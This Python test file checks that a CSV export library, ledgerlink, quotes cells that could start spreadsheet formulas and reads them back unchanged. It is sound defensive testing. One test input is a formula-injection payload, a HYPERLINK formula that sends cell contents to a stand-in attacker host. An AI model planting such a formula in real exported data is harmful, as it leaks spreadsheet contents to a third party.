"""No CSV cell ledgerlink writes can start a spreadsheet formula, and what it writes reads
back as the values it was given."""

from __future__ import annotations

import csv
import io
import unicodedata
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ledgerlink.csv_cells import SafeCsvWriter, safe_cell, unescape_cell
from ledgerlink.domain.members import clean_text
from ledgerlink.members import csv_io


def looks_like_a_formula(cell: str) -> bool:
    """What a spreadsheet may run: OWASP's first characters, also after leading whitespace
    or invisible characters, and their full-width or other look-alikes."""
    if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "\0"):
        return True
    visible = [c for c in cell if not (c.isspace() or unicodedata.category(c) == "Cf")]
    if not visible:
        return False
    first = visible[0]
    return unicodedata.normalize("NFKC", first)[:1] in "=+-@" or first == "\u2212"


formula_like = st.one_of(
    st.text(),
    st.tuples(
        st.text(alphabet="'", max_size=3),
        st.text(alphabet=" \t\r\n\u00a0\u200b\ufeff", max_size=2),
        st.sampled_from("=+-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\u2212\u207c"),
        st.text(),
    ).map("".join),
)


@given(value=formula_like)
def test_no_exported_cell_ever_starts_a_formula(value: str) -> None:
    assert not looks_like_a_formula(safe_cell(value))


@given(value=formula_like, plain_number=st.booleans())
def test_reading_a_cell_back_gives_the_value_written(value: str, plain_number: bool) -> None:
    assert unescape_cell(safe_cell(value, plain_number=plain_number)) == value


@given(
    rows=st.lists(st.lists(formula_like.filter(lambda v: "\0" not in v), min_size=1, max_size=5))
)
def test_a_file_written_and_read_back_holds_the_same_rows(rows: list[list[str]]) -> None:
    buffer = io.StringIO(newline="")
    SafeCsvWriter(buffer, lineterminator="\r\n").writerows(rows)
    written = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert not [cell for row in written for cell in row if looks_like_a_formula(cell)]
    assert [[unescape_cell(cell) for cell in row] for row in written] == rows


names = formula_like.map(clean_text).filter(lambda name: 0 < len(name) <= 100 and "\0" not in name)


@given(first=names, last=names, organisation=names)
def test_a_member_export_imports_back_as_the_same_names(
    first: str, last: str, organisation: str
) -> None:
    values = {
        "member_number": "M1",
        "first_name": first,
        "last_name": last,
        "organisation": organisation,
        "membership_level": "standard",
        "phone": "+12125550123",
    }
    text = "".join(csv_io.csv_text([csv_io.COLUMNS, [values.get(c, "") for c in csv_io.COLUMNS]]))
    good, errors, _ = csv_io.parse(text, ["standard"])
    if errors:  # a name can hold what looks like a card number: refused, not misread
        assert {e.field for e in errors} <= {"first_name", "last_name", "organisation"}
        return
    [row] = good
    assert (row.member.first_name, row.member.last_name, row.member.organisation) == (
        first,
        last,
        organisation,
    )
    assert row.member.phone == "+12125550123"
    assert ",+12125550123," in text  # a validated phone number stays as it is


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"open")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
        ),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tfoo", "'\tfoo"),
        ("\rfoo", "'\rfoo"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("'=1", "''=1"),
        ("O'Brien", "O'Brien"),
        ("'quoted'", "'quoted'"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formula_cells_get_a_quote_and_ordinary_text_is_left_alone(value: str, cell: str) -> None:
    assert safe_cell(value) == cell


def test_numbers_stay_readable_but_text_that_looks_like_one_is_quoted() -> None:
    assert safe_cell(Decimal("-12.50")) == "-12.50"
    assert safe_cell(-3) == "-3"
    assert safe_cell(None) == ""
    assert safe_cell("-12.50") == "'-12.50"
    assert safe_cell("-12.50", plain_number=True) == "-12.50"
    assert safe_cell("+14155550100", plain_number=True) == "+14155550100"
    assert safe_cell("-2+3", plain_number=True) == "'-2+3"
    assert safe_cell("+1 415 555 0100", plain_number=True) == "'+1 415 555 0100"
